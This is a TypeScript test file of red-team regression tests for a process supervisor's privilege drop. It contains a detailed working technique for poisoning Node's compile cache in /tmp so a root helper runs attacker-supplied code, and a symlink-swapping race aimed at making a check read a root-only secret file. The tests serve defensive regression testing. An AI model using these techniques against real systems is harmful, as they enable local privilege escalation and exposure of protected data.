// Red-team attacks on the privilege drop (docs/pid1.md "Security model"): a command run as a
// non-root user must never get root's powers. Each test here is an attack that once worked; it
// guards the fix.
import { execFileSync, spawnSync } from "node:child_process";
import {
  chmodSync,
  chownSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CLI, canUnshare, until, withScenario } from "./helpers/harness.js";
import { Running } from "./helpers/running.js";
import { canSwitchUsers, createTestUsers, linesOf, type TestUsers } from "./helpers/users.js";

const require = createRequire(import.meta.url);

/** A Node that has a compile cache (22.1+): this one, or the pinned LTS of tools/node-lts. */
function nodeWithCompileCache(): string | undefined {
  const candidates = [process.execPath];
  try {
    const lts = (
      require("@groundcontrol/node-lts") as { nodeLtsPath(): string | undefined }
    ).nodeLtsPath();
    if (lts) candidates.push(lts);
  } catch {}
  return candidates.find((node) => {
    try {
      const kind = execFileSync(node, ["-p", "typeof require('node:module').enableCompileCache"], {
        encoding: "utf8",
      });
      return kind.trim() === "function";
    } catch {
      return false;
    }
  });
}

/** True when `uid` can read `file` (every directory on the way searchable). */
function readableBy(file: string, uid: number, gid: number): boolean {
  return spawnSync("/bin/sh", ["-c", 'test -r "$0"', file], { uid, gid }).status === 0;
}

// Run by the attacker (an unprivileged command of the same Ground Control), on the same Node as
// Ground Control. It plants, in /tmp/node-compile-cache, a V8 code cache for Ground Control's
// bundle whose code is its own: compiled from a script of the same length, put behind the real
// entry's header (its key, size and source hash). The exec-as helper — Ground Control started
// as root with an empty environment, so with the default temp directory — loads it.
const POISON = String.raw`
const fs = require("node:fs");
const path = require("node:path");
const zlib = require("node:zlib");
const { execFileSync } = require("node:child_process");
const [node, entry, marker] = process.argv.slice(2);
const src = fs.readFileSync(path.join(path.dirname(entry), "groundcontrol-main.cjs"));
const work = fs.mkdtempSync("/tmp/attacker-");
const entries = (dir) =>
  fs.readdirSync(dir).flatMap((v) => fs.readdirSync(path.join(dir, v)).map((f) => ({ v, f, file: path.join(dir, v, f) })));
const ofMain = (dir) => entries(dir).find((e) => fs.readFileSync(e.file).readUInt32LE(4) === src.length);
execFileSync(node, [entry, "--version"], { env: { NODE_COMPILE_CACHE: work + "/real" } });
const real = ofMain(work + "/real");
const payload = "require('fs').appendFileSync(" + JSON.stringify(marker) + ", 'uid=' + process.getuid() + '\\n');";
const mal = Buffer.from(payload + "/*" + "x".repeat(src.length - payload.length - 4) + "*/");
fs.mkdirSync(work + "/mal");
fs.writeFileSync(work + "/mal/groundcontrol-main.cjs", mal);
fs.writeFileSync(work + "/mal/entry.cjs", "require('node:module').enableCompileCache(); require('./groundcontrol-main.cjs');");
execFileSync(node, [work + "/mal/entry.cjs"], { env: { NODE_COMPILE_CACHE: work + "/malc" } });
const cache = fs.readFileSync(ofMain(work + "/malc").file).subarray(20);
const header = Buffer.from(fs.readFileSync(real.file).subarray(0, 20));
header.writeUInt32LE(cache.length, 8);
header.writeUInt32LE(zlib.crc32(cache), 16);
const rootDir = "/tmp/node-compile-cache/" + real.v.replace(/-\d+$/, "-0");
fs.mkdirSync(rootDir, { recursive: true });
fs.writeFileSync(path.join(rootDir, real.f), Buffer.concat([header, cache]));
console.log("planted " + path.join(rootDir, real.f));
`;

/**
 * Shell lines that keep the directories under /tmp holding `paths` (a checkout cloned into /tmp,
 * its node_modules' Node) visible once the private /tmp is mounted over the real one: each is
 * bound into the private /tmp at the same place, root-owned, before the mount.
 */
function keepVisible(privateTmp: string, paths: string[]): string {
  const tops = new Set(paths.filter((p) => p.startsWith("/tmp/")).map((p) => p.split("/")[2]!));
  return [...tops]
    .map(
      (top) =>
        `mkdir "${privateTmp}/${top}" && mount --bind "/tmp/${top}" "${privateTmp}/${top}" && `,
    )
    .join("");
}

let users: TestUsers;

describe.runIf(canSwitchUsers && canUnshare)("red team: privilege drop", () => {
  beforeAll(() => {
    users = createTestUsers();
  });
  afterAll(() => users.remove());

  const node = nodeWithCompileCache();
  it.runIf(node !== undefined)(
    "a command run as a user cannot plant code that the root exec-as helper runs (Node compile cache in /tmp)",
    async () => {
      const attacker = { uid: users.uid(users.loner), gid: users.gid(users.loner) };
      if (
        !readableBy(CLI, attacker.uid, attacker.gid) ||
        !readableBy(node!, attacker.uid, attacker.gid)
      ) {
        console.warn("skipped: the bundle or the Node binary is not readable by a plain user here");
        return;
      }
      // The namespace's /tmp is a fresh, world-writable directory, as a container's is at boot.
      const work = mkdtempSync(join(tmpdir(), "gc-redteam-cache-"));
      const privateTmp = join(work, "tmp");
      try {
        chmodSync(work, 0o755);
        mkdirSync(privateTmp);
        chmodSync(privateTmp, 0o1777);
        // Ground Control keeps its own compile cache out of /tmp (TMPDIR, or NODE_COMPILE_CACHE
        // as docs/cli.md offers); the helper, started with an empty environment, does not.
        mkdirSync(join(privateTmp, "root-only"), { mode: 0o700 });
        writeFileSync(join(privateTmp, "poison.cjs"), POISON, { mode: 0o644 });
        writeFileSync(
          join(privateTmp, "groundcontrol.toml"),
          `
suppress_timestamps = true
control-socket = false

[[processes]]
name = "attacker"
pre = { user = "${users.loner}", command = ["${node}", "/tmp/poison.cjs", "${node}", "${CLI}", "/tmp/marker"] }

[[processes]]
name = "victim"
pre = { user = "${users.member}", command = ["/bin/sh", "-c", "echo victim-ran"] }
`,
        );
        const gc = new Running(
          [
            "unshare",
            "--mount",
            "--propagation",
            "private",
            "/bin/sh",
            "-c",
            `${keepVisible(privateTmp, [node!, CLI])}mount --rbind "$0" /tmp && exec env -i PATH=/usr/local/bin:/usr/bin:/bin TMPDIR=/tmp/root-only "$@"`,
            privateTmp,
            node!,
            CLI,
            "/tmp/groundcontrol.toml",
          ],
          { env: process.env },
        );
        // One-shot processes only: Ground Control stays up until it is told to stop.
        await gc.waitFor(/started: all 2 processes ready/);
        gc.kill("SIGTERM");
        const done = await gc.finished;
        expect(done.stdout).toMatch(/planted /);
        const marker = join(privateTmp, "marker");
        const ran = existsSync(marker) ? readFileSync(marker, "utf8").split("\n") : [];
        // The attacker's own code ran as root in the helper, before the user switch.
        expect(ran).not.toContain("uid=0");
        expect(linesOf(done.stdout, "victim[pre]")).toContain("victim-ran");
      } finally {
        rmSync(work, { recursive: true, force: true });
      }
    },
    60_000,
  );

  it("a command run as a user without supplementary groups never starts in a directory only root can reach (cwd swapped after the check)", async () => {
    const loner = { uid: users.uid(users.loner), gid: users.gid(users.loner) };
    const work = mkdtempSync(join(tmpdir(), "gc-redteam-cwd-"));
    try {
      chmodSync(work, 0o755);
      // A secret the user cannot reach: readable itself, but inside a directory only root enters.
      const rootOnly = join(work, "root-only");
      const inner = join(rootOnly, "inner");
      mkdirSync(inner, { recursive: true });
      chmodSync(rootOnly, 0o700);
      chmodSync(inner, 0o755);
      const secret = `TOP-SECRET-${process.pid}`;
      writeFileSync(join(inner, "secret.txt"), `${secret}\n`, { mode: 0o644 });
      // The user's own deploy directory, with a `current` link it owns (releases, Capistrano).
      const deploy = join(work, "deploy");
      mkdirSync(join(deploy, "release"), { recursive: true });
      writeFileSync(join(deploy, "release", "secret.txt"), "public\n");
      execFileSync("ln", ["-s", join(deploy, "release"), join(deploy, "current")]);
      for (const path of [deploy, join(deploy, "release"), join(deploy, "release", "secret.txt")]) {
        chownSync(path, loner.uid, loner.gid);
      }
      execFileSync("chown", ["-h", `${loner.uid}:${loner.gid}`, join(deploy, "current")]);
      expect(readableBy(join(inner, "secret.txt"), loner.uid, loner.gid)).toBe(false);

      await withScenario(
        `
suppress_timestamps = true
control-socket = false

[[processes]]
name = "flipper"
# The user (say, a compromised app) keeps swapping its own link between its release and the secret.
run = { user = "${users.loner}", command = ["/bin/sh", "-c", "cd ${deploy} && while :; do ln -sfn ${inner} next && mv -T next current; ln -sfn ${deploy}/release next && mv -T next current; done"] }

[[processes]]
name = "app"
run = { user = "${users.loner}", command = ["/bin/sh", "-c", "echo app-up; exec sleep 600"] }
health = { command = { user = "${users.loner}", cwd = "${deploy}/current", command = ["/bin/sh", "-c", "echo probe; cat secret.txt"] }, interval = "10ms", grace = "10ms", failures = 1000000 }
`,
        async (s) => {
          await s.waitForOutput(/app +\| app-up/);
          await until(
            () => linesOf(s.stdout, "app").filter((line) => line === "probe").length >= 100,
            "100 health checks run as the user",
            45_000,
          );
          s.signal("SIGTERM");
          const done = await s.finished;
          // The check passed on the user's own release; libuv then entered the directory as root.
          expect(linesOf(done.stdout, "app")).not.toContain(secret);
        },
      );
    } finally {
      rmSync(work, { recursive: true, force: true });
    }
  }, 90_000);
});
